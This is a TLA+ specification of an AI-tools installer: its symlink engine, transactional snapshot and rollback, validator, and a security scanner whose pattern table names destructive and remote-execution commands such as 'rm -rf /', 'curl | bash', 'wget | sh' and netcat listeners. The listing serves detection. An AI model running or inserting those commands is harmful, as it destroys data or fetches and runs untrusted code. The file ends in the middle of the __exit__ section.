---- MODULE Spec2Model ----
(***************************************************************************)
(* Transactional install/link engine of the aitools-installer skill:       *)
(* install.py (name resolution, fetch, discovery, link_component, the CLI  *)
(* wrapper), install_transaction.py (InstallTransaction: snapshot, commit, *)
(* rollback, __exit__, rollback_tool), install_validator.py                *)
(* (validate_tool), security_scanner.py (SecurityScanner) and              *)
(* install_logger.py (InstallLogger).                                      *)
(*                                                                         *)
(* Paths, URLs and names are strings, handled with the string operations   *)
(* the Python code uses (substring test, replace, split, lower).           *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    fs,      \* the filesystem
    pre,     \* the filesystem as it was when the running process started
    tx,      \* the InstallTransaction object of the running process
    cli,     \* arguments and locals of the running install
    pc,      \* position of the running process
    exc,     \* the exception in flight inside the transaction body
    raised,  \* the exception that left the transaction boundary
    now,     \* the clock, one tick per process
    ncalls,  \* calls made by the body of a library transaction
    last     \* the last call made on the transaction

vars == <<fs, pre, tx, cli, pc, exc, raised, now, ncalls, last>>

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
\* number of processes (CLI installs, or library transactions) run in sequence
MaxSessions == 2
\* number of library transactions run in sequence
MaxApiSessions == 1
\* number of calls a library caller makes inside one transaction body
MaxCalls == 3

(***************************************************************************)
(* String primitives (str methods used by the scripts).                    *)
(***************************************************************************)
\* Python: needle in hay
Contains(hay, needle) ==
    \E i \in 1..(Len(hay) - Len(needle) + 1) :
        SubSeq(hay, i, i + Len(needle) - 1) = needle

\* Python: s.startswith(p)
StartsWith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, 1, Len(p)) = p

\* Python: s.endswith(p)
EndsWith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, Len(s) - Len(p) + 1, Len(s)) = p

\* Python: s.replace(pat, "")
RECURSIVE RemoveAll(_, _)
RemoveAll(s, pat) ==
    IF Len(s) < Len(pat) THEN s
    ELSE IF SubSeq(s, 1, Len(pat)) = pat
         THEN RemoveAll(SubSeq(s, Len(pat) + 1, Len(s)), pat)
         ELSE SubSeq(s, 1, 1) \o RemoveAll(SubSeq(s, 2, Len(s)), pat)

\* Python: s.rstrip(ch) for a single character ch
RECURSIVE RStrip(_, _)
RStrip(s, ch) ==
    IF Len(s) > 0 /\ SubSeq(s, Len(s), Len(s)) = ch
    THEN RStrip(SubSeq(s, 1, Len(s) - 1), ch)
    ELSE s

\* position of the last occurrence of the character ch in s, 0 when absent
LastIndexOf(s, ch) ==
    LET hits == {i \in 1..Len(s) : SubSeq(s, i, i) = ch}
    IN  IF hits = {} THEN 0 ELSE CHOOSE i \in hits : \A j \in hits : j <= i

\* Python: s.split(ch)[-1]
LastPart(s, ch) == SubSeq(s, LastIndexOf(s, ch) + 1, Len(s))

\* Python: ch.join(s.split(ch)[:-1]), the text before the last ch
ButLastPart(s, ch) == SubSeq(s, 1, LastIndexOf(s, ch) - 1)

UpperChars == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LowerChars == "abcdefghijklmnopqrstuvwxyz"

LowerChar(c) ==
    IF \E i \in 1..26 : SubSeq(UpperChars, i, i) = c
    THEN LET i == CHOOSE k \in 1..26 : SubSeq(UpperChars, k, k) = c
         IN  SubSeq(LowerChars, i, i)
    ELSE c

\* Python: s.lower()
RECURSIVE Lower(_)
Lower(s) == IF Len(s) = 0 THEN s
            ELSE LowerChar(SubSeq(s, 1, 1)) \o Lower(SubSeq(s, 2, Len(s)))

(***************************************************************************)
(* Configuration (install.py).                                             *)
(***************************************************************************)
HOME == "/r"
OPENCODE_DIR == HOME \o "/.config/opencode"
CODEX_DIR == HOME \o "/.codex"
GEMINI_DIR == HOME \o "/.gemini"
TOOLS_DIR == OPENCODE_DIR \o "/tools"

\* keys of DESTINATION_MAP, in dictionary order
Categories == <<"skills", "agents", "commands", "plugins", "hooks", "mcp", "prompts">>
CategorySet == {Categories[i] : i \in 1..Len(Categories)}

\* DESTINATION_MAP[c]: the ordered destination directories of category c
DESTINATION_MAP(c) ==
    <<OPENCODE_DIR \o "/" \o c, CODEX_DIR \o "/" \o c, GEMINI_DIR \o "/" \o c>>

\* DESTINATION_MAP[c] when Path.home() is home
DestinationsUnder(home, c) ==
    <<home \o "/.config/opencode/" \o c, home \o "/.codex/" \o c, home \o "/.gemini/" \o c>>

\* the host root a destination directory lies in (dest_parent.parent)
ParentDir(d) == ButLastPart(d, "/")

\* config_dirs of InstallTransaction and of run_validation
ConfigDirs == {OPENCODE_DIR, CODEX_DIR, GEMINI_DIR}

\* link_type list scanned by _create_snapshot
SnapshotLinkTypes == {"skills", "agents", "commands", "hooks", "plugins", "mcp"}
\* link_type list scanned by rollback when there is no snapshot
RollbackLinkTypes == {"skills", "agents", "commands", "hooks", "plugins", "mcp"}
\* link_types scanned by InstallValidator._validate_symlinks
ValidatorLinkTypes == {"skills", "agents", "commands", "hooks", "plugins"}

(***************************************************************************)
(* Inputs: source URLs given on the command line, and the trees a fetch    *)
(* can deliver.  A tree is                                                 *)
(*   comps  : the category directories at the root of the repository       *)
(*   docs   : the metadata documents <cat>/SKILL.md that start with a      *)
(*            header block, each with the kind of its header:              *)
(*              "mapping"  - `tools` is a mapping                          *)
(*              "sequence" - `tools` is a sequence                         *)
(*              "syntax"   - the header is not well-formed YAML            *)
(*              "empty"    - the header holds no YAML node                 *)
(*   extras : what else lies at the root: "INSTALL.md:npm" (INSTALL.md     *)
(*            names npm install), "INSTALL.md:pip", "node_modules",        *)
(*            "requirements.txt"                                           *)
(*   scripts: the other text files, [path, lines]: path is relative to the *)
(*            root of the tree and lines is content.split('\n')            *)
(***************************************************************************)
Urls == {"https://g.io/al/kit", "https://g.io/bob/kit.git", "https://g.io/cy/bob-kit"}

Doc(cat, kind) == [cat |-> cat, kind |-> kind]

Trees == {[comps |-> {"skills"}, docs |-> {}, extras |-> {}, scripts |-> {}],
          [comps |-> {"skills", "agents"}, docs |-> {Doc("skills", "sequence")}, extras |-> {},
           scripts |-> {}],
          [comps |-> {"skills", "prompts"}, docs |-> {}, extras |-> {}, scripts |-> {}]}

\* the directory a clone or a pull of tree leaves, with git remote origin
Checkout(origin, tree) ==
    [origin |-> origin, comps |-> tree.comps, docs |-> tree.docs, extras |-> tree.extras,
     scripts |-> tree.scripts]

\* names a library caller opens a transaction on
ApiNames == {"kit", "bob-kit"}

(***************************************************************************)
(* Filesystem.                                                             *)
(*   fs.home    : Path.home()                                              *)
(*   fs.tools   : tool name -> [origin, comps, docs, extras, scripts], under *)
(*                TOOLS_DIR (origin is the git remote of the clone)        *)
(*   fs.roots   : the host configuration roots that exist                  *)
(*   fs.catdirs : the category directories that exist under the roots      *)
(*   fs.links   : <<dir, entry>> -> [tool, cat], the symlinks; the target  *)
(*                is the path TOOLS_DIR/tool/cat                           *)
(*   fs.rdirs   : <<dir, entry>> -> [mtime, files], the real directories   *)
(*   fs.snaps   : <<tool name, timestamp>> -> [tool, symlinks], the        *)
(*                directories under .install-snapshots                     *)
(*   fs.logs    : the transaction logs the running process has written     *)
(*                under .install-logs (nothing ever reads them back)       *)
(***************************************************************************)
\* str(path) of a link target
TargetStr(t) == TOOLS_DIR \o "/" \o t.tool \o "/" \o t.cat

\* Path.exists() of a link target
TargetExists(f, t) == t.tool \in DOMAIN f.tools /\ t.cat \in f.tools[t.tool].comps

\* restriction of a function to the keys outside ks
Without(fn, ks) == [k \in DOMAIN fn \ ks |-> fn[k]]

\* the function fn with key k bound to v
With(fn, k, v) == [x \in DOMAIN fn \cup {k} |-> IF x = k THEN v ELSE fn[x]]

(***************************************************************************)
(* Component Discoverer (install.py, find_components).  comps holds the    *)
(* category directories of a tool by their path relative to its root:      *)
(* "skills" at the root, "pkg/skills" one level down.  Those at the root   *)
(* are found by the direct-child pass, in the order of the DESTINATION_MAP *)
(* keys; the trees of the filesystem model hold at most one category       *)
(* directory below the root, and only with pkg above it, which the walk    *)
(* finds when the category is not at the root.                             *)
(***************************************************************************)
\* the keys of the dictionary find_components returns, in insertion order
find_components(f, name) ==
    IF name \in DOMAIN f.tools
    THEN SelectSeq(Categories, LAMBDA c : c \in f.tools[name].comps)
         \o SelectSeq(Categories, LAMBDA c : /\ c \notin f.tools[name].comps
                                             /\ ("pkg/" \o c) \in f.tools[name].comps)
    ELSE <<>>

\* components[c], relative to the root of the tool
ComponentPath(f, name, c) ==
    IF name \in DOMAIN f.tools /\ c \notin f.tools[name].comps
       /\ ("pkg/" \o c) \in f.tools[name].comps
    THEN "pkg/" \o c
    ELSE c

(***************************************************************************)
(* find_components on a tree of any depth.  dirs is the set of the         *)
(* directories below the root, each a path relative to the root (a         *)
(* sequence of names), and listing is the order in which os.walk lists the *)
(* entries of a directory.  The result is the dictionary as the sequence   *)
(* of its items [key, path], in insertion order.                           *)
(***************************************************************************)
\* directory names os.walk does not descend into
SkippedDirs == {"node_modules", "dist", "build", "vendor"}
Pruned(d) == StartsWith(d, ".") \/ d \in SkippedDirs

HasKey(components, k) == \E i \in 1..Len(components) : components[i].key = k

\* str(Path(root).relative_to(root_dir)).count(os.sep)
rel_level(root) == IF Len(root) = 0 THEN 0 ELSE Len(root) - 1

\* a walk that lets a later occurrence of a category replace the one it has
RecordFound_Replacing(components, root, d) ==
    IF d \notin CategorySet THEN components
    ELSE IF HasKey(components, d)
         THEN [i \in 1..Len(components) |->
                 IF components[i].key = d
                 THEN [key |-> d, path |-> Append(root, d)] ELSE components[i]]
         ELSE Append(components, [key |-> d, path |-> Append(root, d)])

\* if d in DESTINATION_MAP and d not in components: components[d] = root / d
RecordFound(components, root, d) ==
    IF d \in CategorySet /\ ~HasKey(components, d)
    THEN Append(components, [key |-> d, path |-> Append(root, d)])
    ELSE components

\* for d in dirs: ..., for the entries ds[i..] of the directory root
RECURSIVE RecordAll(_, _, _, _)
RecordAll(components, root, ds, i) ==
    IF i > Len(ds) THEN components
    ELSE RecordAll(RecordFound(components, root, ds[i]), root, ds, i + 1)

\* os.walk top-down: the directory root is visited, then each of its kept
\* subdirectories in turn
RECURSIVE Visit(_, _, _, _)
RECURSIVE Descend(_, _, _, _, _, _)
Visit(dirs, listing, root, components) ==
    LET ds == SelectSeq(listing, LAMBDA d : Append(root, d) \in dirs /\ ~Pruned(d))
        here == IF rel_level(root) > 2 THEN components
                ELSE RecordAll(components, root, ds, 1)
    IN  Descend(dirs, listing, root, ds, 1, here)

Descend(dirs, listing, root, ds, i, components) ==
    IF i > Len(ds) THEN components
    ELSE Descend(dirs, listing, root, ds, i + 1,
                 Visit(dirs, listing, Append(root, ds[i]), components))

\* the pass over the direct children of the root, in the order of the keys
DirectChildren(dirs) ==
    LET keys == SelectSeq(Categories, LAMBDA c : <<c>> \in dirs)
    IN  [i \in 1..Len(keys) |-> [key |-> keys[i], path |-> <<keys[i]>>]]

find_components_in(dirs, listing) == Visit(dirs, listing, <<>>, DirectChildren(dirs))

(***************************************************************************)
(* Link Engine (install.py, link_component).                               *)
(***************************************************************************)
\* pathlib with_suffix on the last path segment: the text from the last dot
\* (when it is neither the first nor the last character) is replaced
WithSuffix(name, suffix) ==
    LET i == LastIndexOf(name, ".")
    IN  IF 1 < i /\ i < Len(name) THEN SubSeq(name, 1, i - 1) \o suffix
        ELSE name \o suffix

\* the condition under which a destination is linked at all
DestAccepted(f, d) == Contains(d, "opencode") \/ ParentDir(d) \in f.roots

\* a variant that removes the real directory instead of moving it
MoveToBackup_Remove(f, k, bk) ==
    [f EXCEPT !.rdirs = Without(@, {k})]

\* shutil.move of the real directory at key k to the backup key bk
MoveToBackup(f, k, bk) ==
    LET d == f.rdirs[k]
        moved == IF bk \in DOMAIN f.rdirs
                 THEN [f.rdirs[bk] EXCEPT
                          !.files = @ \cup {k[2] \o "/" \o x : x \in d.files}]
                 ELSE d
    IN  [f EXCEPT !.rdirs = With(Without(@, {k}), bk, moved)]

\* is_dir() follows links: a variant that tests it first moves the old link
\* of a re-install aside as if it were a real directory
ClearDest_DirTestFirst(f, d, name) ==
    LET k == <<d, name>>
        f1 == [f EXCEPT !.catdirs = @ \cup {d}, !.roots = @ \cup {ParentDir(d)}]
    IN  IF k \in DOMAIN f1.links /\ TargetExists(f1, f1.links[k])
        THEN [f1 EXCEPT !.links = Without(@, {k}),
                        !.rdirs = With(@, <<d, WithSuffix(name, ".bak.0")>>,
                                       [mtime |-> "0", files |-> {}])]
        ELSE IF k \in DOMAIN f1.links
             THEN [f1 EXCEPT !.links = Without(@, {k})]
             ELSE IF k \in DOMAIN f1.rdirs
                  THEN MoveToBackup(f1, k, <<d, WithSuffix(name, ".bak." \o f1.rdirs[k].mtime)>>)
                  ELSE f1

\* "Smart Backup & Overwrite" of one destination, without the new link
ClearDest(f, d, name) ==
    LET k == <<d, name>>
        f1 == [f EXCEPT !.catdirs = @ \cup {d}, !.roots = @ \cup {ParentDir(d)}]
    IN  IF k \in DOMAIN f1.links
        THEN [f1 EXCEPT !.links = Without(@, {k})]
        ELSE IF k \in DOMAIN f1.rdirs
             THEN MoveToBackup(f1, k, <<d, WithSuffix(name, ".bak." \o f1.rdirs[k].mtime)>>)
             ELSE f1

\* one iteration of the loop over the destinations of a category
LinkOne(f, d, src, name) ==
    IF DestAccepted(f, d)
    THEN LET f2 == ClearDest(f, d, name)
         IN  [f2 EXCEPT !.links = With(@, <<d, name>>, src)]
    ELSE f

\* the loop of link_component over destinations i..Len(dests)
RECURSIVE LinkFrom(_, _, _, _, _)
LinkFrom(f, dests, i, src, name) ==
    IF i > Len(dests) THEN f
    ELSE LinkFrom(LinkOne(f, dests[i], src, name), dests, i + 1, src, name)

link_component(f, name, c) ==
    LinkFrom(f, DESTINATION_MAP(c), 1, [tool |-> name, cat |-> ComponentPath(f, name, c)], name)

\* the list link_component returns
LinkedTo(f, c) ==
    SelectSeq(DestinationsUnder(f.home, c), LAMBDA d : DestAccepted(f, d))

\* the loop of install_tool over the found components, first n of them
RECURSIVE LinkComponents(_, _, _, _)
LinkComponents(f, name, comps, n) ==
    IF n = 0 THEN f
    ELSE link_component(LinkComponents(f, name, comps, n - 1), name, comps[n])

(***************************************************************************)
(* Security Gate (security_scanner.py).  A pattern of the table is a       *)
(* sequence of tokens of the regular expression:                           *)
(*   lit s : the text s          ws1 : \s+          ws0 : \s*              *)
(*   not s : [^s]*               set s : one character of s                *)
(*   eol   : $                   many0 s : s*       many1 s : s+           *)
(* (the last two arise where the table writes \\s in a raw string: a       *)
(* backslash followed by the letter s).                                    *)
(* re.IGNORECASE is rendered by matching against the lowered line.         *)
(***************************************************************************)
Tok(t, str) == [t |-> t, s |-> str]

IsWs(c) == c = " " \/ c = "\t"

\* the pattern toks[ti..] matches line at position pos
RECURSIVE MatchAt(_, _, _, _)
MatchAt(toks, ti, line, pos) ==
    IF ti > Len(toks) THEN TRUE
    ELSE LET k == toks[ti]
             rest == Len(line) - pos + 1
             run(n, ok(_)) == \A j \in pos..(pos + n - 1) : ok(SubSeq(line, j, j))
         IN  CASE k.t = "lit" ->
                    /\ rest >= Len(k.s)
                    /\ SubSeq(line, pos, pos + Len(k.s) - 1) = k.s
                    /\ MatchAt(toks, ti + 1, line, pos + Len(k.s))
               [] k.t = "ws1" ->
                    \E n \in 1..rest :
                       run(n, IsWs) /\ MatchAt(toks, ti + 1, line, pos + n)
               [] k.t = "ws0" ->
                    \E n \in 0..rest :
                       run(n, IsWs) /\ MatchAt(toks, ti + 1, line, pos + n)
               [] k.t = "not" ->
                    \E n \in 0..rest :
                       run(n, LAMBDA c : c # k.s) /\ MatchAt(toks, ti + 1, line, pos + n)
               [] k.t = "many0" ->
                    \E n \in 0..rest :
                       run(n, LAMBDA c : c = k.s) /\ MatchAt(toks, ti + 1, line, pos + n)
               [] k.t = "many1" ->
                    \E n \in 1..rest :
                       run(n, LAMBDA c : c = k.s) /\ MatchAt(toks, ti + 1, line, pos + n)
               [] k.t = "set" ->
                    /\ rest >= 1
                    /\ Contains(k.s, SubSeq(line, pos, pos))
                    /\ MatchAt(toks, ti + 1, line, pos + 1)
               [] k.t = "eol" ->
                    pos = Len(line) + 1 /\ MatchAt(toks, ti + 1, line, pos)

\* re.search(pattern, line, re.IGNORECASE)
Search(toks, line) ==
    \E pos \in 1..(Len(line) + 1) : MatchAt(toks, 1, Lower(line), pos)

Pattern(severity, toks, description) ==
    [severity |-> severity, toks |-> toks, description |-> description]

\* SUSPICIOUS_PATTERNS, in the order the dictionary is iterated
SUSPICIOUS_PATTERNS ==
    << Pattern("critical", <<Tok("lit", "rm"), Tok("ws1", ""), Tok("lit", "-rf"),
                             Tok("ws1", ""), Tok("lit", "/")>>, "rm -rf /"),
       Pattern("critical", <<Tok("lit", "eval"), Tok("ws0", ""), Tok("lit", "("),
                             Tok("not", ")"), Tok("lit", "$")>>, "eval with variable"),
       Pattern("critical", <<Tok("lit", "curl"), Tok("ws1", ""), Tok("not", "|"),
                             Tok("lit", "|"), Tok("ws0", ""), Tok("lit", "bash")>>,
               "curl | bash"),
       Pattern("critical", <<Tok("lit", "wget"), Tok("ws1", ""), Tok("not", "|"),
                             Tok("lit", "|"), Tok("ws0", ""), Tok("lit", "sh")>>,
               "wget | sh"),
       Pattern("high", <<Tok("lit", "chmod"), Tok("ws1", ""), Tok("lit", "777")>>,
               "chmod 777"),
       Pattern("high", <<Tok("lit", "sudo"), Tok("ws1", "")>>, "sudo"),
       Pattern("high", <<Tok("lit", "exec"), Tok("ws0", ""), Tok("lit", "("),
                         Tok("not", ")"), Tok("lit", "$")>>, "exec with variable"),
       Pattern("high", <<Tok("lit", "\\"), Tok("eol", ""), Tok("lit", "\\{"),
                         Tok("not", "}"), Tok("lit", "exec")>>, "substitution with exec"),
       Pattern("medium", <<Tok("lit", "rm"), Tok("ws1", ""), Tok("lit", "-rf"),
                           Tok("ws1", ""), Tok("lit", "$")>>, "rm -rf $"),
       Pattern("medium", <<Tok("lit", "\\>\\"), Tok("many0", "s"),
                           Tok("lit", "/dev/null\\"), Tok("many1", "s"),
                           Tok("lit", "2>&1")>>, "output suppression"),
       Pattern("medium", <<Tok("lit", "nc"), Tok("ws1", ""), Tok("lit", "-"),
                           Tok("set", "lep")>>, "netcat") >>

\* the numbers 1..n in order
Indices(n) == [i \in 1..n |-> i]

\* the findings of one pattern on the lines of a file, in line order
PatternFindings(p, file) ==
    LET hits == SelectSeq(Indices(Len(file.lines)),
                          LAMBDA i : Search(p.toks, file.lines[i]))
    IN  [j \in 1..Len(hits) |->
            [severity |-> p.severity, category |-> "code_pattern",
             file_path |-> file.path, line_number |-> hits[j],
             description |-> p.description]]

\* _scan_content: the findings appended for one file, first n patterns
RECURSIVE _scan_content(_, _)
_scan_content(file, n) ==
    IF n = 0 THEN <<>>
    ELSE _scan_content(file, n - 1) \o PatternFindings(SUSPICIOUS_PATTERNS[n], file)

\* the suffixes of script_patterns, in order
ScriptSuffixes == <<".sh", ".bash", ".py", ".js">>

\* _scan_scripts: the findings appended, first n script patterns.  The trees
\* of this model hold at most one file per suffix, so the order in which
\* glob yields the files of one pattern does not matter.
RECURSIVE _scan_scripts(_, _)
_scan_scripts(tool, n) ==
    IF n = 0 THEN <<>>
    ELSE LET files == {x \in tool.scripts : EndsWith(x.path, ScriptSuffixes[n])}
         IN  _scan_scripts(tool, n - 1) \o
             (IF files = {} THEN <<>>
              ELSE _scan_content(CHOOSE x \in files : TRUE, Len(SUSPICIOUS_PATTERNS)))

\* the files that lie directly in hooks/
HookFiles(tool) ==
    IF "hooks" \in tool.comps
    THEN {x.path : x \in {y \in tool.scripts :
                            /\ StartsWith(y.path, "hooks/")
                            /\ ~Contains(SubSeq(y.path, 7, Len(y.path)), "/")}}
         \cup {"hooks/SKILL.md" : d \in {y \in tool.docs : y.cat = "hooks"}}
    ELSE {}

\* a set of at most one element as a list
AsSeq(S) == IF S = {} THEN <<>> ELSE <<CHOOSE x \in S : TRUE>>

\* _check_hooks: the findings appended (the trees hold at most one hook file)
_check_hooks(tool) ==
    LET hs == AsSeq(HookFiles(tool))
    IN  [j \in 1..Len(hs) |->
            [severity |-> "medium", category |-> "permission", file_path |-> hs[j],
             line_number |-> 0, description |-> "hook"]]

\* re.search of an alternation of words in the whole content
AnyWord(file, words) ==
    \E i \in 1..Len(file.lines) : \E w \in words : Contains(Lower(file.lines[i]), w)

\* _check_hooks and _analyze_permissions: the permissions added.  pathlib
\* does not expand braces, so the glob '**/*.{sh,py,js}' yields the files
\* whose name ends in that very text.
Permissions(tool) ==
    LET files == {x \in tool.scripts : EndsWith(x.path, ".{sh,py,js}")}
    IN  (IF "hooks" \in tool.comps THEN {"execute_on_startup"} ELSE {})
        \cup (IF \E x \in files : AnyWord(x, {"curl", "wget", "http", "fetch",
                                             "requests", "axios"})
              THEN {"network_access"} ELSE {})
        \cup (IF \E x \in files : AnyWord(x, {"rm", "delete", "unlink"})
              THEN {"file_deletion"} ELSE {})
        \cup (IF \E x \in files : AnyWord(x, {"write", "create", "mkdir", "touch"})
              THEN {"file_write"} ELSE {})

\* SecurityScanner.__init__
NewScanner == [issues |-> <<>>, permissions |-> {}]

\* SecurityScanner.scan: the scanner object after the call; the list it
\* returns is the issues attribute of the object
scan(tool, scanner) ==
    [issues |-> scanner.issues \o _scan_scripts(tool, Len(ScriptSuffixes))
                   \o _check_hooks(tool),
     permissions |-> scanner.permissions \cup Permissions(tool)]

\* scan_tool_security: (issues, permissions) of a new scanner
scan_tool_security(tool) == scan(tool, NewScanner)

(***************************************************************************)
(* Validation Gate (install_validator.py).                                 *)
(***************************************************************************)
\* the categories named in config_patterns
ConfigPatternCategories == {"agents", "skills", "commands"}

\* str(config_file) of a metadata document of tool name
DocPath(name, d) == TOOLS_DIR \o "/" \o name \o "/" \o d.cat \o "/SKILL.md"

\* a sequence is an error, a YAML error is an error, `'tools' in None`
\* raises TypeError, which the outer handler turns into a warning
_validate_yaml_configs(f, name) ==
    IF name \in DOMAIN f.tools
    THEN LET globbed == {d \in f.tools[name].docs :
                            d.cat \in ConfigPatternCategories /\ d.cat \in f.tools[name].comps}
         IN  {[severity |-> "error", category |-> "compatibility",
               file_path |-> DocPath(name, d)] : d \in {x \in globbed : x.kind = "sequence"}}
             \cup {[severity |-> "error", category |-> "yaml",
                    file_path |-> DocPath(name, d)] : d \in {x \in globbed : x.kind = "syntax"}}
             \cup {[severity |-> "warning", category |-> "yaml",
                    file_path |-> DocPath(name, d)] : d \in {x \in globbed : x.kind = "empty"}}
    ELSE {}

_validate_symlinks(f, name) ==
    {[severity |-> "error", category |-> "symlink", file_path |-> k[1] \o "/" \o k[2]] :
        k \in {x \in DOMAIN f.links :
                 /\ x[1] \in {r \o "/" \o lt : r \in ConfigDirs, lt \in ValidatorLinkTypes}
                 /\ Contains(TargetStr(f.links[x]), name)
                 /\ ~TargetExists(f, f.links[x])}}

\* warnings about dependencies INSTALL.md names
_detect_compatibility_issues(f, name) ==
    IF name \in DOMAIN f.tools
    THEN LET x == f.tools[name].extras
             tool_path == TOOLS_DIR \o "/" \o name
         IN  (IF "INSTALL.md:npm" \in x /\ "node_modules" \notin x
              THEN {[severity |-> "warning", category |-> "compatibility",
                     file_path |-> tool_path \o "/INSTALL.md"]}
              ELSE {})
             \cup
             (IF "INSTALL.md:pip" \in x /\ "requirements.txt" \in x
              THEN {[severity |-> "warning", category |-> "compatibility",
                     file_path |-> tool_path \o "/requirements.txt"]}
              ELSE {})
    ELSE {}

\* a variant in which any issue, a warning included, fails the validation
Passed_NoIssues(issues) == issues = {}

\* the test that sets ValidationResult.passed
Passed(issues) == \A i \in issues : i.severity # "error"

\* a variant in which the critical findings of the Security Gate count as
\* errors of the validation
validate_tool_Blocking(f, name) ==
    LET found == IF name \in DOMAIN f.tools
                 THEN scan_tool_security(f.tools[name]).issues ELSE <<>>
        issues == _validate_yaml_configs(f, name) \cup _validate_symlinks(f, name)
                    \cup _detect_compatibility_issues(f, name)
                    \cup {[severity |-> "error", category |-> "security",
                           file_path |-> found[i].file_path] :
                             i \in {j \in 1..Len(found) : found[j].severity = "critical"}}
    IN  [passed |-> Passed(issues), issues |-> issues]

validate_tool(f, name) ==
    LET issues == _validate_yaml_configs(f, name) \cup _validate_symlinks(f, name)
                    \cup _detect_compatibility_issues(f, name)
    IN  [passed |-> Passed(issues), issues |-> issues]

run_validation(f, name) == validate_tool(f, name).passed

(***************************************************************************)
(* Transaction Controller (install_transaction.py, InstallTransaction).    *)
(* A transaction object is the record                                      *)
(*   [tool_name, backup_enabled, snapshot_dir, committed, rolled_back, log]*)
(* where snapshot_dir is <<>> for None and log is the TransactionLog.      *)
(***************************************************************************)
NoSnapshot == <<>>

\* InstallTransaction.__init__
NewTransaction(name, backup) ==
    [tool_name |-> name, backup_enabled |-> backup, snapshot_dir |-> NoSnapshot,
     committed |-> FALSE, rolled_back |-> FALSE,
     log |-> [tool_name |-> name, snapshot_path |-> NoSnapshot,
              operations |-> <<>>, status |-> "in_progress"]]

\* the directories _create_snapshot and rollback iterate over
LinkDirs(types) == {r \o "/" \o lt : r \in ConfigDirs, lt \in types}

\* the symlinks _create_snapshot writes to symlinks.json
SnapshotSymlinks(f, name) ==
    {[link |-> k, target |-> f.links[k]] :
        k \in {x \in DOMAIN f.links :
                 /\ x[1] \in LinkDirs(SnapshotLinkTypes)
                 /\ Contains(TargetStr(f.links[x]), name)}}

\* _create_snapshot: the snapshot directory it leaves on disk
SnapshotOf(f, name) ==
    [tool |-> IF name \in DOMAIN f.tools THEN {f.tools[name]} ELSE {},
     symlinks |-> SnapshotSymlinks(f, name)]

_create_snapshot_fs(f, t, ts) ==
    [f EXCEPT !.snaps = With(@, <<t.tool_name, ts>>, SnapshotOf(f, t.tool_name))]

_create_snapshot_tx(t, ts) ==
    [t EXCEPT !.snapshot_dir = <<t.tool_name, ts>>,
              !.log.snapshot_path = <<t.tool_name, ts>>,
              !.log.operations = Append(@, "snapshot_created")]

\* variant of the __enter__ condition: the backup flag is not consulted
EnterSnapshots_IgnoreBackup(f, t) == t.tool_name \in DOMAIN f.tools

\* __enter__: the condition under which the snapshot is taken
EnterSnapshots(f, t) == t.backup_enabled /\ t.tool_name \in DOMAIN f.tools

EnterFs(f, t, ts) == IF EnterSnapshots(f, t) THEN _create_snapshot_fs(f, t, ts) ELSE f

EnterTx(f, t, ts) == IF EnterSnapshots(f, t) THEN _create_snapshot_tx(t, ts) ELSE t

\* _save_transaction_log: the log file written for transaction t at time ts
_save_transaction_log(f, t, ts) ==
    [f EXCEPT !.logs = @ \cup {[tool_name |-> t.log.tool_name, at |-> ts,
                                 snapshot_path |-> t.log.snapshot_path,
                                 operations |-> t.log.operations,
                                 status |-> t.log.status]}]

\* variant of the ordering check: commit() accepts a rolled-back transaction
CommitAllowed_Always(t) == TRUE

\* commit(): the ordering check
CommitAllowed(t) == ~t.rolled_back

\* variant of the ordering check: rollback() accepts a committed transaction
RollbackAllowed_Always(t) == TRUE

\* rollback(): the ordering check
RollbackAllowed(t) == ~t.committed

\* commit(), past the ordering check
CommitTx(t) == [t EXCEPT !.log.status = "committed", !.committed = TRUE]

CommitFs(f, t, ts) == _save_transaction_log(f, CommitTx(t), ts)

\* a restore that copies the snapshot over the tool directory and keeps what
\* the directory holds besides
RestoreFromSnapshot_Merge(f, t) ==
    LET s == f.snaps[t.snapshot_dir]
        keys == {e.link : e \in s.symlinks}
        targetOf(k) == (CHOOSE e \in s.symlinks : e.link = k).target
        old == CHOOSE x \in s.tool : TRUE
    IN  [f EXCEPT
           !.tools = IF s.tool = {} THEN @
                     ELSE IF t.tool_name \in DOMAIN @
                          THEN [@ EXCEPT ![t.tool_name] =
                                  [origin |-> old.origin,
                                   comps |-> @.comps \cup old.comps,
                                   docs |-> @.docs \cup old.docs,
                                   extras |-> @.extras \cup old.extras,
                                   scripts |-> @.scripts \cup old.scripts]]
                          ELSE With(@, t.tool_name, old),
           !.links = [k \in DOMAIN @ \cup keys |->
                         IF k \in keys THEN targetOf(k) ELSE @[k]]]

\* rollback(): the branch that restores from the snapshot
RestoreFromSnapshot(f, t) ==
    LET s == f.snaps[t.snapshot_dir]
        keys == {e.link : e \in s.symlinks}
        targetOf(k) == (CHOOSE e \in s.symlinks : e.link = k).target
    IN  [f EXCEPT
           !.tools = IF s.tool # {}
                     THEN With(@, t.tool_name, CHOOSE x \in s.tool : TRUE)
                     ELSE @,
           !.links = [k \in DOMAIN @ \cup keys |->
                         IF k \in keys THEN targetOf(k) ELSE @[k]]]

\* rollback(): the branch without a snapshot
RemoveNewFiles(f, t) ==
    [f EXCEPT
       !.tools = Without(@, {t.tool_name}),
       !.links = Without(@, {k \in DOMAIN @ :
                                /\ k[1] \in LinkDirs(RollbackLinkTypes)
                                /\ Contains(TargetStr(@[k]), t.tool_name)})]

\* rollback(), past the ordering check
RollbackTx(t) == [t EXCEPT !.log.status = "rolled_back", !.rolled_back = TRUE]

RollbackFs(f, t, ts) ==
    LET f1 == IF t.snapshot_dir # NoSnapshot /\ t.snapshot_dir \in DOMAIN f.snaps
              THEN RestoreFromSnapshot(f, t)
              ELSE RemoveNewFiles(f, t)
    IN  _save_transaction_log(f1, RollbackTx(t), ts)

\* variant of _cleanup_snapshot: the snapshot directory is left in place
_cleanup_snapshot_Keep(f, t) == f

\* _cleanup_snapshot
_cleanup_snapshot(f, t) ==
    IF t.snapshot_dir # NoSnapshot /\ t.snapshot_dir \in DOMAIN f.snaps
    THEN [f EXCEPT !.snaps = Without(@, {t.snapshot_dir})]
    ELSE f

\* variant of __exit__: no rollback when the body ends without a commit
ExitTx_NoAutoRollback(t, e) ==
    IF e # "none" /\ ~t.rolled_back /\ ~t.committed
    THEN [t EXCEPT !.log.status = "rolled_back", !.rolled_back = TRUE]
    ELSE t

\* __exit__: what it does to the transaction, given the exception e in flight
